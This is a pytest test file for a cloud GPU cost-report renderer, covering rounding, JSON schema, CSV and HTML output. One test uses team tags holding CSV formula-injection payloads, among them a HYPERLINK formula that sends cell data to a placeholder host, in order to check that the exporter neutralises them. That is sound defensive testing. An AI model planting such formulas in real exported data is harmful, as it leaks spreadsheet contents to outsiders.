"""Report rendering: cents that add up, stable JSON, CSV, a self-contained HTML file, errors."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from pathlib import Path
from types import SimpleNamespace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from costguard.report.render import apportion
from costguard.report.run import ReportArgumentError, render_report
from costguard.store.db import Database
from tests.costs.fleet import T0, add_interval

END = T0 + timedelta(days=2)


def test_display_cents_add_up_where_rounding_each_row_would_not() -> None:
    # three rows of half a cent: rounded one by one they show 3 cents, the total is 2
    cents, total = apportion([5_000, 5_000, 5_000], 10_000)
    assert total == 2 and sum(cents) == 2 and sorted(cents) == [0, 1, 1]


@given(st.lists(st.integers(min_value=0, max_value=10**12), max_size=40))
def test_apportioned_rows_always_sum_to_the_rounded_total(values: list[int]) -> None:
    cents, total = apportion(values, 10_000)
    assert sum(cents) == total == (sum(values) + 5_000) // 10_000
    assert all(abs(c * 10_000 - v) < 10_000 for c, v in zip(cents, values, strict=True))


@pytest.fixture
def settings(db_url: str) -> SimpleNamespace:
    db = Database(db_url)
    with db.session() as s:
        # 1/3 cent pieces so per-row rounding would drift from the total
        for i, team in enumerate(["research", "vision", "nlp", None]):
            for h in range(3):
                add_interval(s, f"i-{i}", T0 + timedelta(hours=h), 1 / 3, 0.010001 * (i + 1),
                             team=team, gpus=1, idle=(team == "vision"))
        add_interval(s, "i-9", T0, 5, 3.0, team="research", itype="g5.xlarge", gpus=1,
                     spot=True)
    db.dispose()
    return SimpleNamespace(database_url=db_url)


def test_json_report_is_versioned_and_its_rows_add_up_to_the_total(
        settings: SimpleNamespace, tmp_path: Path) -> None:
    out = tmp_path / "r.json"
    render_report(settings, ["team"], T0, END, None, "json", out, now=END)
    doc = json.loads(out.read_text())
    assert doc["schema"] == 2 and doc["currency"] == "USD" and doc["by"] == ["team"]
    teams = {r["team"] for r in doc["rows"]}
    assert teams == {"research", "vision", "nlp", "unattributed"}
    assert round(sum(r["cost_usd"] for r in doc["rows"]) * 100) == round(
        doc["total"]["cost_usd"] * 100)
    research = next(r for r in doc["rows"] if r["team"] == "research")
    assert research["instances"] == 2 and research["spot_share"] > 0.99
    vision = next(r for r in doc["rows"] if r["team"] == "vision")
    assert vision["idle_share"] == 1.0
    assert set(doc["total"]) >= {"cost_usd", "idle_cost_usd", "gpu_hours", "instances",
                                 "spot_savings_possible_usd", "idle_share", "spot_share"}


def test_csv_report_ends_with_a_total_row_equal_to_the_sum(settings: SimpleNamespace,
                                                          tmp_path: Path) -> None:
    out = tmp_path / "r.csv"
    render_report(settings, ["team", "instance-type"], T0, END, ["team=research"], "csv", out,
                  now=END)
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert rows[-1]["team"] == "total"
    body = rows[:-1]
    assert {r["instance-type"] for r in body} == {"p4d.24xlarge", "g5.xlarge"}
    cents = sum(round(float(r["cost_usd"]) * 100) for r in body)
    assert cents == round(float(rows[-1]["cost_usd"]) * 100)


def test_html_report_is_one_self_contained_file_with_charts(settings: SimpleNamespace,
                                                            tmp_path: Path) -> None:
    out = tmp_path / "r.html"
    render_report(settings, ["team"], T0, END, None, "html", out, now=END)
    html = out.read_text()
    assert html.count("<svg") == 3
    assert "<script" not in html and "http://" not in html.replace(
        "http://www.w3.org/2000/svg", "") and "https://" not in html
    assert "unattributed" in html and "research" in html
    # a file mailed around: it runs no script even if a name escaped its escaping
    assert ('<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; '
            "style-src 'unsafe-inline'; img-src data:\">") in html


@pytest.mark.parametrize(("kwargs", "message"), [
    ({"by": ["colour"]}, "unknown --by 'colour'"),
    ({"filters": ["team"]}, "use DIMENSION=VALUE"),
    ({"since": "last tuesday"}, "neither a duration"),
    ({"since": "3650000d"}, "longer than 100 years"),
    ({"since": "1e400d"}, "invalid duration '1e400d'"),
    ({"since": "1969-12-31"}, r"outside the dates costguard reads \(1970-01-01 to 8999-12-31\)"),
    ({"since": "0001-01-01T00:00+05:00"}, "outside the dates"),
    ({"until": "9000-01-01"}, "outside the dates"),
    ({"fmt": "pdf"}, "unknown --format"),
    ({"since": "2026-03-10", "until": "2026-03-09"}, "must be before"),
])
def test_bad_report_options_say_what_would_work(settings: SimpleNamespace, kwargs: dict,  # type: ignore[type-arg]
                                                message: str) -> None:
    args = {"by": ["team"], "since": "7d", "until": None, "filters": None, "fmt": "table",
            "output": None} | kwargs
    with pytest.raises(ReportArgumentError, match=message):
        render_report(settings, now=END, **args)


ROW_FIELDS = ["cost_usd", "idle_cost_usd", "idle_share", "spot_share", "idle_percent",
              "spot_percent", "spot_savings_possible_usd", "gpu_hours", "instances"]


@pytest.mark.parametrize("compare", [None, "billed"])
def test_json_fields_are_exactly_the_documented_schema(settings: SimpleNamespace,
                                                       tmp_path: Path,
                                                       compare: str | None) -> None:
    # docs/report.md "JSON (schema 2)": a rename or removal here must bump the schema
    out = tmp_path / "r.json"
    render_report(settings, ["team", "region"], T0, END, ["env=unattributed"], "json",
                  out, now=END, compare=compare)
    doc = json.loads(out.read_text())
    assert list(doc) == ["schema", "currency", "by", "since", "until", "filters", "compare",
                         "rows", "total", "price_warnings", "waste_beyond_idle",
                         *(["bill_total_usd", "billed_not_compared"] if compare else [])]
    assert list(doc["waste_beyond_idle"]) == [
        "since", "until", "gpu_instances", "underused", "underused_usd",
        "monthly_savings_usd", "by_team", "top", "stored_verdicts", "oldest_stored_verdict"]
    assert (doc["since"], doc["until"]) == (T0.isoformat(), END.isoformat())
    assert (doc["filters"], doc["compare"]) == ({"env": "unattributed"}, compare)
    extra = ["billed_usd", "gap_usd"] if compare else []
    assert all(list(r) == ["team", "region", *ROW_FIELDS, *extra] for r in doc["rows"])
    assert list(doc["total"]) == [*ROW_FIELDS, *extra]
    money = [f for f in [*ROW_FIELDS, *extra] if f.endswith("_usd")]
    assert all(isinstance(r[f], float | int) and round(r[f], 2) == r[f]
               for r in [*doc["rows"], doc["total"]] for f in money)
    assert all(isinstance(r["instances"], int) for r in [*doc["rows"], doc["total"]])


def test_csv_grouped_by_nothing_is_one_total_row_under_the_header(
        settings: SimpleNamespace, tmp_path: Path) -> None:
    out = tmp_path / "r.csv"
    render_report(settings, [], T0, END, None, "csv", out, now=END)
    header, *body = list(csv.reader(io.StringIO(out.read_text())))
    assert header[0] == "cost_usd" and len(body) == 1 and len(body[0]) == len(header)
    json_out = tmp_path / "r.json"
    render_report(settings, [], T0, END, None, "json", json_out, now=END)
    assert float(body[0][0]) == json.loads(json_out.read_text())["total"]["cost_usd"]


def test_csv_cells_from_tags_never_start_a_spreadsheet_formula(db_url: str,
                                                               tmp_path: Path) -> None:
    # a team tag is text anyone who can tag an instance wrote: `=HYPERLINK(...)` ran as a
    # formula in the FinOps lead's spreadsheet. Such a cell starts with an apostrophe; the
    # figures (a negative gap included) are costguard's own and stay numbers
    from costguard.report.cells import text_cell

    db = Database(db_url)
    teams = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1-555", "-ops", "@sum(1)",
             "\tx", "research", "a=b"]
    with db.session() as s:
        for i, team in enumerate(teams):
            add_interval(s, f"i-{i}", T0, 1, 1.0 + i, team=team, gpus=1)
    out = tmp_path / "r.csv"
    render_report(SimpleNamespace(database_url=db_url, costs=None), ["team"], T0, END, None,
                  "csv", out, now=END)
    got = {r["team"]: r for r in csv.DictReader(io.StringIO(out.read_text()))}
    assert set(got) == {"'" + t if t[0] in "=+-@\t" else t for t in teams} | {"total"}
    assert all(not k.startswith(("=", "+", "-", "@", "\t")) for k in got)
    assert text_cell("research") == "research" and text_cell("") == ""
    assert float(got["total"]["cost_usd"]) == sum(1.0 + i for i in range(len(teams)))


def test_a_share_is_rounded_once_the_same_on_every_surface() -> None:
    # vision's idle: $84.57 of $457.08 = 18.502%: the CLI said 19%, the console 18% (it
    # rounded the API's 0.1850 again)
    from costguard.report.figures import share_percent

    assert share_percent(84_570_000, 457_080_000) == 19
    assert share_percent(185, 1000) == 19 and share_percent(1849, 10000) == 18
    assert share_percent(5, 1000) == 1 and share_percent(4, 1000) == 0
    assert share_percent(1, 0) == 0 and share_percent(3, 3) == 100
